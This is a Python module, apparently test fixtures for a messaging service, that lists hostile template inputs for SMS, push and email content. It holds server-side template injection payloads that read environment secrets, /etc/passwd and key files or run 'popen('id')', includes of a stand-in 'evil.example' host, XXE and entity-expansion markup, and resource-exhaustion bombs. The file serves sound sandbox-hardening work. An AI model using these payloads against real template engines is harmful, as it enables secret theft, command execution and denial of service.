"""Templates that mean harm, by what they want."""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from enum import Enum

from clarion.types.v1.content_pb2 import Content, MailContent, PushContent, SmsContent


class Place(Enum):
    """Where a source is put: each is compiled and shown in its own way."""

    SMS = "sms"
    SUBJECT = "subject"
    TEXT = "text"
    HTML = "html"
    TITLE = "title"


@dataclass(frozen=True, slots=True)
class Payload:
    """One template; `partials` are its own."""

    wants: str
    source: str
    place: Place = Place.SMS
    partials: Mapping[str, str] = field(default_factory=dict)

    def content(self) -> Content:
        """A whole content with the source in its place."""
        match self.place:
            case Place.SMS:
                return Content(sms=SmsContent(text=self.source))
            case Place.TITLE:
                return Content(push=PushContent(title=self.source, body="b"))
            case Place.SUBJECT:
                return Content(mail=MailContent(subject=self.source, text="t"))
            case Place.TEXT:
                return Content(mail=MailContent(subject="s", text=self.source))
            case Place.HTML:
                return Content(mail=MailContent(subject="s", html=self.source))


_OBJECTS = ("x", "''", "[]", "{}", "1", "true", "none", "l", "m", "range(3)", "loop", "self", "caller")
_WALKS = (
    ".__class__",
    ".__class__.__base__.__subclasses__()",
    ".__class__.__mro__[1]",
    ".__init__.__globals__",
    ".__globals__['os'].environ",
    ".__dict__",
    "['__class__']",
    "|attr('__class__')",
    "|map(attribute='__class__')|list",
    ".format.__self__",
    ".gi_frame.f_globals",
    ".mro()",
)
_SECRETS = (
    "{{ environ.CLARION_DATABASE_URL }}",
    "{{ env('CLARION_KEK_FILE') }}",
    "{{ os.environ }}",
    "{{ getenv('HOME') }}",
    "{{ settings }}",
    "{{ config.items() }}",
    "{{ app }}",
    "{{ g.pop.__globals__ }}",
    "{{ __import__('os').popen('id').read() }}",
    "{{ __builtins__ }}",
    "{{ globals() }}",
    "{{ vars() }}",
    "{{ dir() }}",
    "{{ state }}",
    "{{ debug() }}",
    "{{ open('/proc/self/environ').read() }}",
    "{% include '/etc/passwd' %}",
    "{% include '/proc/self/environ' %}",
    "{% include '../../../keys/kek.key' %}",
    "{% include 'file:///etc/passwd' %}",
    "{% include 'https://evil.example/a' %}",
    "{% import 'os' as os %}{{ os.environ }}",
    "{% from 'os' import environ %}{{ environ }}",
    "{% extends '/etc/passwd' %}",
)
_BOMBS = (
    "{{ 'a' * 999999999 }}",
    "{{ [1] * 999999999 }}",
    "{{ 10 ** 10 ** 10 }}",
    "{{ 2 ** 1000000 }}",
    "{{ x * n * 99999999 }}",
    "{{ '%999999999s' % x }}",
    "{{ '{:>999999999}'.format(x) }}",
    "{{ '%0999999999d'|format(1) }}",
    "{{ x|center(999999999) }}",
    "{{ x|indent(999999999) }}",
    "{{ x|ljust(999999999) }}",
    "{{ x|times(999999999) }}",
    "{{ x|replace('a', x)|replace('a', x)|replace('a', x) }}",
    "{{ x|list|join(x)|list|join(x) }}",
    "{{ range(1000)|join(x)|list|join(x) }}",
    "{{ range(999999999)|list }}",
    "{{ range(-999999999, 999999999) }}",
    "{{ range(0, 1, 0) }}",
    "{% for a in range(1000) %}{% for b in range(1000) %}{% for c in range(1000) %}{{ x }}{% endfor %}{% endfor %}{% endfor %}",
    "{% for a in x %}{% for b in x %}{{ x }}{% endfor %}{% endfor %}",
    "{% set a = x %}" + "{% set a = a ~ a %}" * 40 + "{{ a }}",
    "{% set ns = namespace(a=x) %}{% for i in range(50) %}{% set ns.a = ns.a ~ ns.a %}{% endfor %}{{ ns.a }}",
    "{% set l = [l, l, l, l] %}" * 30 + "{{ l }}",
    "{% macro f(n) %}{{ f(n) }}{{ f(n) }}{% endmacro %}{{ f(1) }}",
    "{% for a in l recursive %}{{ loop(l) }}{% endfor %}",
    "{% call(a) f() %}{{ caller(a) }}{% endcall %}",
    "{{ " + "[" * 3_000 + "]" * 3_000 + " }}",
    "{{ " + "(" * 3_000 + "x" + ")" * 3_000 + " }}",
    "{{ x" + ".a" * 3_000 + " }}",
    "{{ x" + "|lower|upper" * 1_200 + " }}",
    "{{ x " + "~ x " * 3_000 + "}}",
    "{% if x %}" * 1_000 + "{% endif %}" * 1_000,
    "{{ x|sort|unique|list|sort|unique|list|length }}" * 250,
    "{{ x|urlencode|urlencode|urlencode|urlencode|urlencode }}" * 80,
    "{{ n|number(999999999) }}",
    "{{ n|datetime('" + "y" * 4_000 + "') }}",
    "{{ n|plural(one=x ~ x ~ x, other=x ~ x ~ x) }}" * 100,
    "{{ x|truncate(-1) }}{{ x|truncate(999999999999999999999) }}",
    "{{ -9223372036854775808 // -1 }}{{ 1 // 0 }}{{ 1 % 0 }}",
    "{{ 99999999999999999999999999999999999999 }}",
)
_UNICODE = (
    "\u202e{{ x }}\u202c",
    "\ufeff{{ x }}",
    "{{\u00a0x }}",
    "{{\u2028x }}",
    "{\u200b{ x }}",
    "\uff5b\uff5b x \uff5d\uff5d",
    "{{ \uff58 }}",
    "{{ 'a\u0301' * 9 }}",
    "{{ x }}\ufdd0{{ x }}",
    "{{ '\U0010ffff' }}",
    "{{ '\ufdd0' }}",
    "{{ x\u0000 }}",
    "{{ '\\u0000' }}",
    "{{ '\\ud800' }}",
    "{% if '\u212a' == 'k' %}{{ x.__class__ }}{% endif %}",
    "{{ x." + "\u017f" * 2_000 + " }}",
)
_MJML = (
    "<mjml><mj-body><mj-include path='/etc/passwd'/></mj-body></mjml>",
    "<mjml><mj-body><mj-include path='file:///etc/passwd' type='html'/></mj-body></mjml>",
    "<mjml><mj-head><mj-include path='https://evil.example/a' type='css'/></mj-head><mj-body/></mjml>",
    "<!DOCTYPE m [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><mjml><mj-body><mj-text>&e;</mj-text></mj-body></mjml>",
    "<mjml><!DOCTYPE m [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><mj-body>&b;</mj-body></mjml>",
    "<mjml><mj-body>" + "<mj-section><mj-column>" * 4_000 + "</mj-column></mj-section>" * 4_000 + "</mj-body></mjml>",
    "<mjml><mj-body>" + "<mj-section>" * 9_000,
    "<mjml><mj-body><mj-section>"
    + "<mj-column><mj-text>x</mj-text></mj-column>" * 9_000
    + "</mj-section></mj-body></mjml>",
    "<mjml><mj-head><mj-style>" + "a{b:c}" * 20_000 + "</mj-style></mj-head><mj-body/></mjml>",
    "<mjml><mj-body width='99999999999999999999px'><mj-text padding='1e309px'>x</mj-text></mj-body></mjml>",
    "<mjml><mj-body><mj-raw>" + "<div>" * 60_000 + "</mj-raw></mj-body></mjml>",
    "<mjml><mj-body><mj-raw>{% include '/etc/passwd' %}</mj-raw></mj-body></mjml>",
    "<mjml><mj-body><mj-text>{{ x.__class__ }}</mj-text></mj-body></mjml>",
    "<mjml " + "a='b' " * 20_000 + "><mj-body/></mjml>",
    "<mjml><mj-body><mj-image src='file:///etc/passwd'/></mj-body></mjml>",
)
_PARTIALS: tuple[tuple[str, Mapping[str, str]], ...] = (
    ("{% include 'a' %}", {"a": "{% include 'a' %}"}),
    ("{% include 'a' %}", {"a": "{% include 'b' %}", "b": "{% include 'c' %}", "c": "{% include 'a' %}"}),
    ("{% include 'a' %}", {"a": "{% include 'b' %}" * 100, "b": "{% include 'c' %}" * 100, "c": "x" * 1_000}),
    ("{% include 'p0' %}", {f"p{depth}": f"{{% include 'p{depth + 1}' %}}" for depth in range(30)} | {"p30": "x"}),
    ("{% include 'a' %}" * 5_000, {"a": "x"}),
    ("{% include 'a' %}" * 200, {"a": "y" * 16_000}),
    ("{% include 'a' %}{% endif %}", {"a": "{% if x %}"}),
    ("{% include x %}", {"a": "{{ x }}"}),
    ("{% include ['/etc/passwd', 'a'] %}", {"a": "{{ x }}"}),
    ("{% include 'a@99999999999999999999' %}", {"a": "x"}),
    ("{% include '__class__' %}", {"a": "x"}),
    ("{% include 'a' %}", {"a": "{{ x.__class__.__mro__ }}"}),
)


def payloads() -> list[Payload]:
    """All of them, each different."""
    return list(_all())


def _all() -> Iterator[Payload]:
    places = (Place.SMS, Place.TITLE, Place.SUBJECT, Place.TEXT, Place.HTML)
    walks = [f"{{{{ {thing}{walk} }}}}" for thing in _OBJECTS for walk in _WALKS]
    for wants, sources in (("objects", walks), ("secrets", _SECRETS), ("letters", _UNICODE)):
        for number, source in enumerate(sources):
            yield Payload(wants, source, places[number % len(places)])
    for number, source in enumerate(_BOMBS):
        yield Payload("time and memory", source, (Place.SMS, Place.TEXT, Place.HTML)[number % 3])
    for source in _MJML:
        yield Payload("markup", source, Place.HTML)
    for source, partials in _PARTIALS:
        yield Payload("partials", source, Place.TEXT, partials)
